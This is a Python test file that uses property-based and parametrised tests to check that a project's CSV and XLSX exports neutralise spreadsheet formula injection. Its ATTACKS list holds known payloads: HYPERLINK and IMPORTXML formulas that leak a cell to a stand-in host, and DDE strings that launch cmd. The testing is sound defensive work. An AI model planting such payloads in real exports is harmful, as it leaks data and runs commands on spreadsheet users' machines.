"""Spreadsheet exports never turn a text into a formula, whatever the text (CSV/formula
injection, OWASP): a property over generated texts and a corpus of known attacks."""

from __future__ import annotations

import csv
import gc
import io
import sys
import zipfile
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bankvoc.core import tables

# Known payloads: links that leak the row, DDE, a leading tab or CR, @ functions, signs.
ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1", "==", "=",
    '=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")',
]
# Texts as complaints come: Chinese, signs inside, a leading space before =.
texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(lambda head, rest: head + rest, st.sampled_from(["=", "+", "-", "@", "\t", ""]),
              st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40)),
)


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [(cell.value, cell.data_type) for row in sheet.iter_rows(min_row=2) for cell in row]


class TestCsvBytes:
    @given(text=texts)
    def test_a_formula_like_text_is_quoted_and_any_other_kept(self, text: str) -> None:
        ((header,), (cell,)) = _csv_cells(tables.csv_bytes(["text"], [[text]]))
        assert header == "text"
        if text.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + text
        else:
            assert not cell.startswith(("=", "+", "-", "@"))

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_every_known_attack_starts_with_an_apostrophe(self, attack: str) -> None:
        data = tables.csv_bytes(["text", "n"], [[attack, -3]])
        ((_, _), (cell, number)) = _csv_cells(data)
        assert cell.startswith("'")
        assert number == "-3"  # a negative number is a number, not a formula


class TestXlsxBytes:
    @given(text=texts)
    def test_no_text_becomes_a_formula(self, text: str) -> None:
        # openpyxl refuses control characters in cells; what the app exports is masked text.
        text = "".join(c for c in text if c in "\t\r\n" or c >= " ")
        ((value, kind),) = _xlsx_cells(tables.xlsx_bytes(["text"], [[text]]))
        assert kind != "f"
        assert value == (text.replace("\r\n", "\n").replace("\r", "\n") or None)  # XML

    def test_the_workbook_holds_no_formula_element(self) -> None:
        data = tables.xlsx_bytes(["text"], [[attack] for attack in ATTACKS])
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = b"".join(archive.read(n) for n in archive.namelist()
                              if n.startswith("xl/worksheets/"))
        assert b"<f>" not in sheets


    def test_a_row_source_failing_part_way_leaves_no_half_written_sheet(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        # Seen under the API fuzzing: a refused export left a write-only sheet that failed
        # again, unraisably, when collected.
        unraisable: list[object] = []
        monkeypatch.setattr(sys, "unraisablehook", unraisable.append)

        def rows() -> Iterator[list[tables.Cell]]:
            yield ["a"]
            raise ValueError("refused")

        with pytest.raises(ValueError, match="refused"):
            tables.xlsx_bytes(["h"], rows())
        gc.collect()
        assert unraisable == []


class TestNeutraliseRow:
    def test_makes_the_formula_like_cells_of_a_row_text(self) -> None:
        sheet = Workbook().active
        assert sheet is not None
        sheet.append(["=1+1", "plain", 3])
        tables.neutralise_row(sheet[1])
        assert [c.data_type for c in sheet[1]] == ["s", "s", "n"]
